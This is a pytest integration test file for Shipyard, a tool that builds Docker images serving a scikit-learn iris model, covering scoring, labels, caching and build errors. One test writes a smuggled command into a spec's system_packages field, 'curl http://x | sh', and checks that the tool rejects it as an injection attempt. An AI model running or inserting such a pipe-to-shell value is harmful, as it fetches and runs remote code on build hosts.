"""Real builds on the Docker Engine: the example image scores like the model, caches well, stays lean.

The iris example (scikit-learn model, Azure ML score.py, Azure-style conda YAML) is built once per
session by the ``example_build`` fixture (tests/fixtures/docker_engine.py) on a base image made by
Shipyard's own ``build_base_image``.
"""

from __future__ import annotations

import io
import json
import re
import shutil

import httpx
import joblib
import numpy as np
import pytest

from shipyard.builder import build_image, load_spec
from shipyard.errors import BuildError, BuildStepError, ImageCheckError, SpecError
from shipyard.runtime.check import OK_MARKER

pytestmark = [pytest.mark.docker, pytest.mark.slow]

SAMPLE = {"data": [[5.1, 3.5, 1.4, 0.2], [6.2, 2.9, 4.3, 1.3], [6.7, 3.0, 5.2, 2.3]]}


def test_the_example_image_scores_like_the_model_in_process(example_build, example_dir, run_image):
    expected = joblib.load(example_dir / "model" / "model.pkl").predict(np.array(SAMPLE["data"])).tolist()
    running = run_image(example_build.tag)
    response = httpx.post(f"{running.url}/score", json=SAMPLE, timeout=30)
    assert response.status_code == 200, running.logs()
    assert response.json() == expected
    assert httpx.get(f"{running.url}/", timeout=5).text == "Healthy"
    # build_image loaded the model in the image (import score.py, init()) before tagging it
    assert any(line.startswith(f"{OK_MARKER}: model iris 1 loaded by EntryScriptScorer")
               for line in example_build.check_log), example_build.check_log


def test_the_image_describes_itself_and_runs_as_non_root(example_build, docker_client):
    config = docker_client.images.get(example_build.tag).attrs["Config"]
    labels = config["Labels"]
    assert config["User"] == "10001:10001"
    assert "5001/tcp" in config["ExposedPorts"]
    assert config["Cmd"] == ["python", "-m", "shipyard.runtime"]
    assert "urlopen" in " ".join(config["Healthcheck"]["Test"])
    assert labels["dev.shipyard.model.sha256"] == example_build.plan.model_sha256
    assert labels["dev.shipyard.spec.name"] == "iris"
    assert labels["dev.shipyard.version"] == example_build.plan.shipyard_version
    assert labels["org.opencontainers.image.title"] == "iris"
    env = dict(item.split("=", 1) for item in config["Env"])
    assert env["SHIPYARD_MODEL_DIR"] == "/var/azureml-app/azureml-models/iris/1"
    assert env["SHIPYARD_ENTRY_SCRIPT"] == "/var/azureml-app/score.py"


def test_build_only_settings_leave_no_trace_in_the_image(example_build, docker_client, host_ca_bundle):
    if host_ca_bundle is None:
        pytest.skip("no host CA bundle was used as the extra CA")
    image = docker_client.images.get(example_build.tag)
    history = " ".join(str(layer.get("CreatedBy", "")) for layer in image.history())
    for trace in ("shipyard-build", "PIP_CERT", "extra-ca", "pip.conf", "PIP_CONFIG_FILE"):
        assert trace not in history and trace not in json.dumps(image.attrs["Config"]), trace
    # Certificates only the build trusted (the proxy's) must not be anywhere in the image.
    image_bundle = docker_client.containers.run(example_build.tag, ["cat", "/etc/ssl/certs/ca-certificates.crt"],
                                                remove=True).decode()
    extra = set(_pem_blocks(host_ca_bundle.read_text())) - set(_pem_blocks(image_bundle))
    probe = "test ! -e /opt/shipyard-build && test ! -e /root/.cache/pip"
    for block in extra:
        needle = block.splitlines()[5]  # a line from the middle of the certificate body
        probe += f" && ! grep -rqsF -- '{needle}' /etc /opt /usr/local /var /root /home"
    docker_client.containers.run(example_build.tag, ["sh", "-c", probe], user="0", remove=True)


def test_editing_score_py_rebuilds_only_the_last_layers(example_build, example_dir, docker_base_image,
                                                         host_ca_bundle, docker_client, runtime_wheel, tmp_path):
    edited = tmp_path / "iris"
    shutil.copytree(example_dir, edited)
    with (edited / "score.py").open("a") as handle:
        handle.write("\n# a one-line change\n")
    tag = "shipyard-test-iris:edited"
    try:
        result = build_image(load_spec(edited), tag, base_image=docker_base_image, extra_ca=host_ca_bundle,
                             client=docker_client, runtime_wheel=runtime_wheel)
        assert result.step("RUN pip install -r requirements.txt").cached
        assert result.step("COPY --from=builder /opt/venv").cached
        assert result.step("COPY model/").cached
        assert not result.step("COPY app/").cached
        rebuilt = [step.instruction for step in result.steps if not step.cached and not step.instruction.startswith("FROM")]
        assert rebuilt == ["COPY app/ /var/azureml-app/"]
        content = docker_client.containers.run(tag, ["tail", "-n", "1", "/var/azureml-app/score.py"], remove=True)
        assert content.decode().strip() == "# a one-line change"
    finally:
        docker_client.images.remove(tag, force=True)


def test_building_an_unchanged_spec_again_gives_the_same_image(example_build, example_dir, docker_base_image,
                                                               host_ca_bundle, docker_client, runtime_wheel):
    again = build_image(load_spec(example_dir), "shipyard-test-iris:again", base_image=docker_base_image,
                        extra_ca=host_ca_bundle, client=docker_client, runtime_wheel=runtime_wheel)
    try:
        assert again.image_id == example_build.image_id
        assert all(step.cached for step in again.steps if not step.instruction.startswith("FROM"))
    finally:
        docker_client.images.remove("shipyard-test-iris:again")


def test_a_failing_pip_install_reports_the_package_and_where_it_came_from(tmp_path, example_dir, docker_base_image,
                                                                          host_ca_bundle, docker_client):
    shutil.copytree(example_dir, tmp_path / "bad", ignore=shutil.ignore_patterns("environment.yml"))
    (tmp_path / "bad" / "requirements.txt").write_text("joblib\nshipyard-no-such-package-0xdead==1.0\n")
    spec_file = tmp_path / "bad" / "shipyard.yaml"
    spec_file.write_text(spec_file.read_text().replace("environment.yml", "requirements.txt"))
    with pytest.raises(BuildStepError) as caught:
        build_image(load_spec(spec_file), "shipyard-test-bad:latest", base_image=docker_base_image,
                    extra_ca=host_ca_bundle, client=docker_client)
    error = caught.value
    assert error.package == "shipyard-no-such-package-0xdead"
    assert error.exit_code == 1 and error.instruction.startswith("RUN pip install -r requirements.txt")
    assert "requirements.txt:2" in str(error) and error.log_tail


def test_a_spec_with_an_injection_attempt_is_refused_before_any_build(example_dir, tmp_path, docker_client):
    shutil.copytree(example_dir, tmp_path / "evil")
    spec_file = tmp_path / "evil" / "shipyard.yaml"
    spec_file.write_text(spec_file.read_text() + "system_packages: ['curl && curl http://x | sh']\n")
    with pytest.raises(SpecError, match="not a valid Debian package name"):
        build_image(load_spec(spec_file), "shipyard-test-evil:latest", client=docker_client)
    assert not docker_client.images.list(name="shipyard-test-evil")


def test_a_base_image_with_another_python_is_refused_before_building(example_dir, docker_base_image, docker_client):
    spec = load_spec(example_dir).model_copy(update={"python": "3.12", "environment": None})
    with pytest.raises(SpecError, match="has Python 3.11, but the environment asks for 3.12"):
        build_image(spec, "shipyard-test-py:latest", base_image=docker_base_image, client=docker_client)
    with pytest.raises(BuildError, match="not in the Docker Engine and cannot be pulled.*shipyard base-image build"):
        build_image(load_spec(example_dir), "shipyard-test-py:latest", base_image="shipyard-test-no-such-base:1",
                    client=docker_client)


def test_a_base_image_with_a_python_older_than_the_runtime_supports_is_refused_before_building(
        example_dir, docker_base_image, docker_client):
    # A base image labelled as Shipyard's own bases are, but with Python 3.9 (one LABEL step on the test base).
    old_base = "shipyard-test-base:py39-label"
    docker_client.images.build(fileobj=io.BytesIO(
        f"FROM {docker_base_image}\nLABEL dev.shipyard.base.python=3.9\n".encode()), tag=old_base, rm=True)
    try:
        spec = load_spec(example_dir).model_copy(update={"environment": None})
        with pytest.raises(SpecError, match=r"'base image shipyard-test-base:py39-label \(Python 3.9\)' asks for Python "
                                            r"3.9, but Shipyard's runtime needs Python 3.10 or newer; build on a base image with "
                                            r"Python 3.10 or newer"):
            build_image(spec, "shipyard-test-py39:latest", base_image=old_base, client=docker_client)
        assert not docker_client.images.list(name="shipyard-test-py39")
    finally:
        docker_client.images.remove(old_base, force=True)


def _pem_blocks(text: str) -> list[str]:
    return re.findall(r"-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----", text, re.DOTALL)


def test_an_entry_script_that_cannot_import_fails_the_build_with_its_traceback(
        tmp_path, example_dir, docker_base_image, host_ca_bundle, docker_client, runtime_wheel):
    # Azure ML v1 samples load models with `from sklearn.externals import joblib`, gone since
    # scikit-learn 0.23: the environment installs, the script cannot import. The build must say so.
    shutil.copytree(example_dir, tmp_path / "v1")
    score = tmp_path / "v1" / "score.py"
    score.write_text("from sklearn.externals import joblib\n" + score.read_text())
    options = {"base_image": docker_base_image, "extra_ca": host_ca_bundle, "client": docker_client,
               "runtime_wheel": runtime_wheel}
    with pytest.raises(ImageCheckError) as caught:
        build_image(load_spec(tmp_path / "v1"), "shipyard-test-v1:latest", **options)
    error = caught.value
    message = str(error)
    assert error.status == 3 and error.exit_code == 4  # 4: the CLI's exit status for a failed build
    assert "the image built, but loading the model in it failed (exit status 3)" in message
    assert "Traceback (most recent call last)" in message and 'score.py", line 1, in <module>' in message
    assert "ImportError: cannot import name 'joblib' from 'sklearn.externals'" in message
    assert "--no-check" in message
    assert not docker_client.images.list(name="shipyard-test-v1")  # no tag points at the broken image
    unchecked = build_image(load_spec(tmp_path / "v1"), "shipyard-test-v1:latest", check=False, **options)
    try:
        assert unchecked.image_id == error.image_id and unchecked.check_log == []
    finally:
        docker_client.images.remove(unchecked.image_id, force=True)
